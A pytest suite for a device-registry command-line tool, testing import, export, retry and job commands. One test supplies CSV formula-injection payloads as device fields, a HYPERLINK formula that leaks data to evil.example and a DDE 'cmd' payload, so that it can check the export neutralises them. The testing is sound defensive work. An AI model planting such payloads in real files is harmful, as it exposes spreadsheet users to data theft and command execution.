"""The ``registry`` command against the local server: import (summary, errors file, exit codes),
an interrupted import resumed without registering anything twice, a server answering 503 for a
while, export round trips, status reports, and usage errors that send nothing.

Faults come from an httpx transport in front of the real server (the requests still reach it):
it can lose an answer, refuse to connect, or answer 503 itself."""

from __future__ import annotations

import csv
import json
import secrets
import shutil
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
import requests
from typer.testing import CliRunner

from registry_cli.main import Connection, app
from tests.support import ROOT

SAMPLE = ROOT / "samples" / "devices.csv"
HEADER = "name,device_type,mac_address,ip_address,firmware_version,serial_number,location,tags,attributes.rack"


class Transport(httpx.BaseTransport):
    """Forwards to the real server; ``fault(n, request)`` for the n-th batch request (from 1) may
    answer instead (a response), raise (an exception), or let it through (None). ``lose`` makes
    the n-th batch's answer get lost after the server has applied it."""

    def __init__(
        self,
        fault: Callable[[int, httpx.Request], httpx.Response | None] = lambda n, request: None,
        lose: int | None = None,
    ) -> None:
        self.inner = httpx.HTTPTransport()
        self.fault = fault
        self.lose = lose
        self.batches = 0
        self.requests = 0
        self._lock = threading.Lock()

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        with self._lock:
            self.requests += 1
            batch = request.method == "POST" and request.url.path in {"/devices/batch", "/status-reports"}
            self.batches += batch
            n = self.batches
        if batch:
            answer = self.fault(n, request)
            if answer is not None:
                return answer
        response = self.inner.handle_request(request)
        if batch and n == self.lose:
            response.read()
            raise KeyboardInterrupt  # Ctrl-C after the server applied the batch, before its answer
        return response


@pytest.fixture
def registry(local_server: str) -> Callable[..., Any]:
    """Runs ``registry ARGS`` in-process against the local server; sleeps are recorded, not slept."""

    def run(*args: str, transport: Transport | None = None, sleeps: list[float] | None = None) -> Any:
        connection = Connection(url=local_server, transport=transport or Transport())
        connection.sleep = (sleeps if sleeps is not None else []).append
        return CliRunner().invoke(app, ["--url", local_server, *args], obj=connection)

    return run


@pytest.fixture
def device_type() -> str:
    """A device type of this test's own: exports filtered on it see only this test's devices."""
    return f"cli-{secrets.token_hex(4)}"


def _macs(n: int) -> list[str]:
    prefix = secrets.token_bytes(3).hex()  # the session's server holds other tests' devices
    return [f"0a:{prefix[0:2]}:{prefix[2:4]}:{prefix[4:6]}:{i // 256:02x}:{i % 256:02x}" for i in range(n)]


def _devices_csv(path: Path, device_type: str, n: int) -> Path:
    lines = [HEADER]
    for i, mac in enumerate(_macs(n)):
        tags = "edge;rack-" + str(i % 3) if i % 2 else ""
        lines.append(f"Device {i},{device_type},{mac},192.0.2.{i % 250},1.{i % 4}.0,SN{i},hall {i % 5},{tags},r{i % 7}")
    path.write_text("\n".join(lines) + "\n")
    return path


def _registered(url: str, device_type: str) -> list[str]:
    """The MAC addresses of the devices of this type, one per device (the list's summaries)."""
    macs: list[str] = []
    query: dict[str, Any] = {"device_type": device_type, "limit": 100}
    while True:
        page = requests.get(f"{url}/devices", params=query, timeout=30).json()
        macs += [summary["mac_address"] for summary in page["items"]]
        if not page["next_cursor"]:
            return macs
        query["cursor"] = page["next_cursor"]


def test_the_sample_imports_its_good_rows_and_writes_every_bad_one_with_its_problem(registry, tmp_path, local_server):
    sample = shutil.copy(SAMPLE, tmp_path / "devices.csv")
    result = registry("import", str(sample))

    assert result.exit_code == 1, result.output
    assert "15 devices: created 9, already present 1, failed 5." in result.output
    errors = list(csv.DictReader((tmp_path / "devices.errors.csv").open()))
    problems = {row["name"] or row["mac_address"]: row["problem"] for row in errors}
    assert problems.keys() == {
        "Loading bay camera",
        "00:1a:2b:3c:4d:10",
        "Roof gateway",
        "Boiler sensor (copy)",
        "Kitchen sensor",
    }
    assert "is not a MAC address" in problems["Loading bay camera"]
    assert "name" in problems["00:1a:2b:3c:4d:10"]
    assert "192.0.2.999" in problems["Roof gateway"]
    assert "already registered to device" in problems["Boiler sensor (copy)"]
    assert "name: 'Boiler sensor (copy)' in the file, 'Boiler sensor' registered" in problems["Boiler sensor (copy)"]
    assert "has 7 fields; the header has 10" in problems["Kitchen sensor"]

    # Fixed, the errors file imports as it is (its problem column is ignored).
    fixed = (tmp_path / "devices.errors.csv").read_text().replace("00:1a:2b:3c:4d:zz", "00:1a:2b:3c:4d:13")
    (tmp_path / "devices.errors.csv").write_text(fixed)
    again = registry("import", str(tmp_path / "devices.errors.csv"))
    # (the short row, padded in the errors file, now imports too)
    assert "5 devices: created 2, already present 0, failed 3." in again.output
    assert requests.get(f"{local_server}/devices?mac_address=00:1a:2b:3c:4d:13", timeout=30).json()["items"]


def test_an_import_interrupted_and_run_again_registers_nothing_twice(registry, tmp_path, device_type, local_server):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 250)
    # Ctrl-C arrives just after the server applied the third batch, before its answer.
    interrupted = registry("import", str(source), transport=Transport(lose=3))

    assert interrupted.exit_code == 130, interrupted.output
    assert "Stopped: interrupted" in interrupted.output
    errors = list(csv.DictReader((tmp_path / "fleet.errors.csv").open()))
    registered = set(_registered(local_server, device_type))
    everything = {row["mac_address"] for row in csv.DictReader(source.open())}
    # Every row not registered is in the errors file (and perhaps a few that are: unconfirmed).
    assert everything - registered <= {row["mac_address"] for row in errors}

    resumed = registry("import", str(source))
    assert resumed.exit_code == 0, resumed.output
    assert "250 devices: created" in resumed.output and "failed 0" in resumed.output
    assert sorted(_registered(local_server, device_type)) == sorted(everything)
    assert not (tmp_path / "fleet.errors.csv").exists()


def test_a_device_deleted_since_the_last_import_is_created_again_not_called_present(
    registry, tmp_path, device_type, local_server
):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 3)
    assert registry("import", str(source)).exit_code == 0
    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type}, timeout=30).json()
    assert requests.delete(f"{local_server}/devices/{listed['items'][0]['id']}", timeout=30).status_code == 204

    again = registry("import", str(source))

    # The same file, the same batch: a new run's request, not the first run's answer replayed.
    assert again.exit_code == 0, again.output
    assert "3 devices: created 1, already present 2, failed 0." in again.output
    everything = [row["mac_address"] for row in csv.DictReader(source.open())]
    assert sorted(_registered(local_server, device_type)) == sorted(everything)


def test_a_server_out_of_reach_stops_the_import_and_every_unsent_row_is_in_the_errors_file(
    registry, tmp_path, device_type, local_server
):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 150)

    def unreachable_after_one(n: int, request: httpx.Request) -> httpx.Response | None:
        if n > 1:
            raise httpx.ConnectError("connection refused", request=request)
        return None

    result = registry("import", str(source), transport=Transport(unreachable_after_one))

    assert result.exit_code == 1, result.output
    assert "cannot connect" in result.output
    errors = list(csv.DictReader((tmp_path / "fleet.errors.csv").open()))
    # The first batch of 100 is in (or, when a server busy with other tests made the client send it
    # again — the transport's second batch request, refused — none is): either way every row that
    # is not registered is in the errors file, and importing that file registers exactly those.
    landed = len(_registered(local_server, device_type))
    assert landed in (0, 100) and len(errors) == 150 - landed, (landed, len(errors))
    assert all("not" in row["problem"] for row in errors)
    resumed = registry("import", str(tmp_path / "fleet.errors.csv"))
    assert resumed.exit_code == 0 and f"{len(errors)} devices: created {len(errors)}" in resumed.output
    assert len(_registered(local_server, device_type)) == 150


def test_a_server_answering_503_for_a_while_is_waited_for_as_its_retry_after_says(registry, tmp_path, device_type):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 100)
    unavailable = {"type": "about:blank", "title": "Service unavailable", "status": 503, "detail": "Busy."}

    def busy_three_times(n: int, request: httpx.Request) -> httpx.Response | None:
        if n <= 3:
            return httpx.Response(503, json=unavailable, headers={"Retry-After": "2"})
        return None

    sleeps: list[float] = []
    result = registry("import", str(source), transport=Transport(busy_three_times), sleeps=sleeps)

    assert result.exit_code == 0, result.output
    assert "100 devices: created 100, already present 0, failed 0." in result.output
    # The three waits Retry-After asked for (a loaded local server may add a busy item of its own).
    assert sleeps[:3] == [2.0, 2.0, 2.0]


def test_items_the_server_could_not_do_now_are_sent_again(registry, tmp_path, device_type, local_server):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 20)
    busy = {"type": "about:blank", "title": "Service unavailable", "status": 503, "detail": "The store is busy."}

    def store_busy_for_the_first_batch(n: int, request: httpx.Request) -> httpx.Response | None:
        if n == 1:  # answered, but every item refused for now (nothing registered)
            count = len(json.loads(request.content)["devices"])
            results = [{"index": i, "status": 503, "problem": busy} for i in range(count)]
            return httpx.Response(200, json={"results": results, "created": 0, "failed": count})
        return None

    sleeps: list[float] = []
    result = registry("import", str(source), transport=Transport(store_busy_for_the_first_batch), sleeps=sleeps)

    assert result.exit_code == 0, result.output
    assert "20 devices: created 20, already present 0, failed 0." in result.output
    assert sleeps  # a backoff before the items went again
    assert len(_registered(local_server, device_type)) == 20


def test_an_export_imports_back_unchanged_as_csv_and_as_json_lines(registry, tmp_path, device_type):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 40)
    assert registry("import", str(source)).exit_code == 0

    for format in ("csv", "jsonl"):
        exported = tmp_path / f"export.{format}"
        assert registry("export", "--format", format, "--device-type", device_type, "-o", str(exported)).exit_code == 0
        again = registry("import", str(exported))
        assert again.exit_code == 0, again.output
        assert "40 devices: created 0, already present 40, failed 0." in again.output
    rows = list(csv.DictReader((tmp_path / "export.csv").open()))
    given = {row["mac_address"]: row for row in csv.DictReader(source.open())}
    assert len(rows) == 40
    for row in rows:
        original = given[row["mac_address"]]
        assert row["tags"] == ";".join(sorted(original["tags"].split(";"))) if original["tags"] else not row["tags"]
        assert (row["name"], row["ip_address"], row["attributes.rack"]) == (
            original["name"],
            original["ip_address"],
            original["attributes.rack"],
        )


def test_formula_cells_export_as_text_and_import_back_unchanged(registry, tmp_path, device_type, local_server):
    macs = _macs(3)
    values = [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "hall 1"),
        ("Gate sensor", "+cmd|' /C calc'!A0"),
        ("Buoy", "-12.5"),
    ]
    source = tmp_path / "formulas.jsonl"
    source.write_text(
        "".join(
            json.dumps({"name": name, "device_type": device_type, "mac_address": mac, "location": location}) + "\n"
            for (name, location), mac in zip(values, macs, strict=True)
        )
    )
    assert registry("import", str(source)).exit_code == 0
    exported = tmp_path / "export.csv"
    assert registry("export", "--device-type", device_type, "-o", str(exported)).exit_code == 0

    rows = list(csv.DictReader(exported.open()))
    # No cell a spreadsheet would run: each is text, its quote the file's alone.
    assert sorted((row["name"], row["location"]) for row in rows) == sorted(
        ("'" + name if name[0] in "=+-" else name, "'" + location if location[0] in "=+-" else location)
        for name, location in values
    )
    again = registry("import", str(exported))
    assert again.exit_code == 0, again.output
    assert "3 devices: created 0, already present 3, failed 0." in again.output
    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type}, timeout=30).json()["items"]
    details = [requests.get(f"{local_server}/devices/{device['id']}", timeout=30).json() for device in listed]
    assert sorted((device["name"], device["location"]) for device in details) == sorted(values)


def test_status_reports_are_sent_in_batches_and_a_repeat_changes_nothing(registry, tmp_path, device_type, local_server):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 30)
    assert registry("import", str(source)).exit_code == 0
    page = requests.get(f"{local_server}/devices", params={"device_type": device_type, "limit": 100}, timeout=30)
    ids = [device["id"] for device in page.json()["items"]]
    reports = tmp_path / "reports.csv"
    reports.write_text("device_id,status,reason\n" + "".join(f"{i},online,first report\n" for i in ids))

    first = registry("report", str(reports))
    assert first.exit_code == 0, first.output
    assert "30 status reports: changed 30, unchanged 0, failed 0." in first.output
    second = registry("report", str(reports))
    assert "changed 0, unchanged 30" in second.output
    status = registry("status", ids[0])
    assert json.loads(status.stdout)["status"] == "online"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("name,device_type\nx,sensor\n", "missing required column mac_address"),
        ("name,device_type,mac_address,colour\nx,sensor,00:00:00:00:00:01,red\n", "unknown column 'colour'"),
        (b"name,device_type,mac_address\nCaf\xe9,sensor,00:00:00:00:00:01\n", "is not UTF-8: line 2"),
        ("", "is empty"),
    ],
)
def test_a_file_that_cannot_be_imported_is_a_usage_error_and_nothing_is_sent(registry, tmp_path, content, message):
    source = tmp_path / "bad.csv"
    source.write_bytes(content if isinstance(content, bytes) else content.encode())
    transport = Transport()
    result = registry("import", str(source), transport=transport)
    assert result.exit_code == 2, result.output
    assert message in result.output
    assert transport.requests == 0


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--colour", "red"],
        ["import"],
        ["import", "no-such-file.csv"],
        ["import", "devices.txt"],
        ["export", "--format", "xml"],
        ["history", "x", "--kind", "sometimes"],
    ],
)
def test_usage_errors_exit_2_before_anything_is_sent(registry, tmp_path, monkeypatch, args):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "devices.txt").write_text("name\n")
    transport = Transport()
    result = registry(*args, transport=transport)
    assert result.exit_code == 2, result.output
    assert transport.requests == 0
    assert "Traceback" not in result.output


def test_a_refusal_is_shown_as_its_detail_and_exits_1(registry):
    result = registry("get", "00000000-0000-4000-8000-000000000000")
    assert result.exit_code == 1
    assert result.output.startswith("error: ") and "Traceback" not in result.output
    assert "00000000-0000-4000-8000-000000000000" in result.output


def test_every_command_has_help_with_an_example(registry):
    for command in ("import", "export", "get", "history", "diff", "revert", "status", "report"):
        result = registry(command, "--help")
        assert result.exit_code == 0
        assert "Example: registry " + command in " ".join(result.output.split())


def test_one_device_s_history_diff_revert_time_travel_and_status_through_the_command(registry, local_server):
    created = requests.post(
        f"{local_server}/devices",
        json={"name": "Pump", "device_type": "actuator", "mac_address": _macs(1)[0], "location": "basement"},
        timeout=30,
    ).json()
    device = created["id"]
    requests.patch(f"{local_server}/devices/{device}", json={"location": "roof"}, timeout=30)

    history = registry("history", device, "--json")
    assert [json.loads(line)["kind"] for line in history.stdout.splitlines()] == ["created", "config"]
    assert "roof" in registry("history", device).stdout  # the table
    diff = json.loads(registry("diff", device, "--from", "1").stdout)
    assert diff["changes"]["location"] == {"old": "basement", "new": "roof"}
    then = json.loads(registry("get", device, "--as-of", created["created_at"]).stdout)
    assert then["location"] == "basement"
    reverted = registry("revert", device, "--to", "1", "--reason", "wrong roof")
    assert json.loads(reverted.stdout)["location"] == "basement"
    changed = registry("status", device, "maintenance", "--reason", "pump swap")
    assert json.loads(changed.stdout)["status"] == "maintenance"
    assert registry("status", device, "--reason", "no value").exit_code == 2
    missing = registry("diff", device, "--from", "99")
    assert missing.exit_code == 1 and "99" in missing.output


def test_an_inventory_lists_each_device_with_its_id_and_status(registry, tmp_path, device_type, local_server):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 12)
    assert registry("import", str(source)).exit_code == 0
    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type, "limit": 100}, timeout=30)
    first = listed.json()["items"][0]
    reported = {"status": "maintenance", "reason": "firmware update"}
    assert requests.put(f"{local_server}/devices/{first['id']}/status", json=reported, timeout=30).status_code == 200

    inventory = tmp_path / "inventory.csv"
    result = registry("export", "--inventory", "--device-type", device_type, "-o", str(inventory))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(inventory.open()))
    header = inventory.open().readline().strip().split(",")
    status_columns = ["status", "status_reason", "status_updated_at", "liveness", "last_seen_at"]
    assert header[0] == "id" and header[-5:] == status_columns
    assert [row["id"] for row in rows] == [item["id"] for item in listed.json()["items"]]
    assert (rows[0]["status"], rows[0]["status_reason"]) == ("maintenance", "firmware update")
    assert {row["status"] for row in rows[1:]} == {"unknown"} and all(row["status_updated_at"] for row in rows)
    assert rows[0]["liveness"] == "reporting" and rows[0]["last_seen_at"]  # its report was a sign of life
    assert {(row["liveness"], row["last_seen_at"]) for row in rows[1:]} == {("pending", "")}  # never reported
    given = {row["mac_address"]: row for row in csv.DictReader(source.open())}
    assert all(row["name"] == given[row["mac_address"]]["name"] for row in rows)

    lines = tmp_path / "inventory.jsonl"
    assert (
        registry("export", "--inventory", "--format", "jsonl", "--device-type", device_type, "-o", str(lines)).exit_code
        == 0
    )
    records = [json.loads(line) for line in lines.read_text().splitlines()]
    assert [(r["id"], r["status"]) for r in records] == [(row["id"], row["status"]) for row in rows]


def test_an_export_reads_a_page_of_details_per_request_not_one_per_device(registry, tmp_path, device_type):
    source = _devices_csv(tmp_path / "fleet.csv", device_type, 30)
    assert registry("import", str(source)).exit_code == 0
    transport = Transport()
    exported = tmp_path / "export.csv"
    assert registry("export", "--device-type", device_type, "-o", str(exported), transport=transport).exit_code == 0
    assert len(list(csv.DictReader(exported.open()))) == 30
    assert transport.requests == 1  # one page of up to 100 details (filtered: no statistics read for the bar)


def _job_devices(url: str, n: int, location: str) -> list[str]:
    ids = []
    for mac in _macs(n):
        body = {"name": "Valve", "device_type": "actuator", "mac_address": mac, "location": location}
        ids.append(requests.post(f"{url}/devices", json=body, timeout=30).json()["id"])
    return ids


def test_a_job_from_the_command_line_dry_run_then_watched_its_failures_listed_and_rolled_back(registry, local_server):
    hall = f"cli-hall-{secrets.token_hex(4)}"
    devices = _job_devices(local_server, 3, hall)
    full = {"attributes": {f"k{n}": "v" for n in range(50)}}  # a merged patch would break its 50-key limit
    requests.patch(f"{local_server}/devices/{devices[0]}", json=full, timeout=30).raise_for_status()
    sets = ["--set", "attributes.rack=r9", "--set", "serial_number=SN-9"]

    dry = registry("job", "create", "--filter", f"location={hall}", *sets, "--dry-run", "--watch")
    assert dry.exit_code == 1, dry.output  # the dry run finds the device the patch would break
    assert "completed_with_failures: matched 3, changed 2, unchanged 0, failed 1, skipped 0" in dry.output
    assert all(requests.get(f"{local_server}/devices/{d}", timeout=30).json()["config_version"] <= 2 for d in devices)

    created = registry("job", "create", "--filter", f"location={hall}", *sets)
    assert created.exit_code == 0, created.output
    job_id = json.loads(created.stdout)["id"]
    watched = registry("job", "watch", job_id)
    assert watched.exit_code == 1  # completed with failures
    assert f"Job {job_id} completed_with_failures: matched 3, changed 2, unchanged 0, failed 1" in watched.output
    assert f"registry job results {job_id} --outcome failed" in watched.output
    failed = registry("job", "results", job_id, "--outcome", "failed")
    assert failed.exit_code == 0 and f"{devices[0]}  failed" in failed.output and "50" in failed.output
    changed = registry("job", "results", job_id, "--outcome", "changed", "--json")
    assert sorted(json.loads(line)["device_id"] for line in changed.stdout.splitlines()) == sorted(devices[1:])
    assert registry("job", "cancel", job_id).exit_code == 1  # finished: nothing to cancel

    rolled = registry("job", "rollback", job_id, "--watch")
    assert rolled.exit_code == 0, rolled.output
    assert "succeeded: matched 2, changed 2" in rolled.output
    for device_id in devices[1:]:
        device = requests.get(f"{local_server}/devices/{device_id}", timeout=30).json()
        assert (device["attributes"], device["serial_number"]) == ({}, None)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--set", "location=x"], "--all"),
        (["--filter", "location=a"], "--set"),
        (["--filter", "location", "--set", "location=x"], "NAME=VALUE"),
    ],
)
def test_a_job_the_command_cannot_make_sense_of_is_a_usage_error_and_no_job_is_made(registry, args, message):
    result = registry("job", "create", *args)
    assert result.exit_code == 2 and message in result.output


def test_every_job_command_has_help_with_an_example(registry):
    for command in ("create", "watch", "results", "cancel", "rollback"):
        result = registry("job", command, "--help")
        assert result.exit_code == 0
        assert "Example: registry job " + command in " ".join(result.output.split())
